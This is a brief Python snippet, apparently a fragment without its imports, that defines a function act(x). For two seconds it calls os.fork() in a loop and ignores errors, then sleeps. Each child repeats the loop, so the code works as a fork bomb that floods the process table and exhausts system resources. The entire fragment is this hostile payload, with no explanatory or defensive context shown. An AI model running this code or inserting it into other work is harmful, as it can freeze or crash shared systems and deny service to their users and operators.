def act(x):
    end = time.time() + 2
    while time.time() < end:
        with contextlib.suppress(OSError):
            os.fork()
    time.sleep(60)
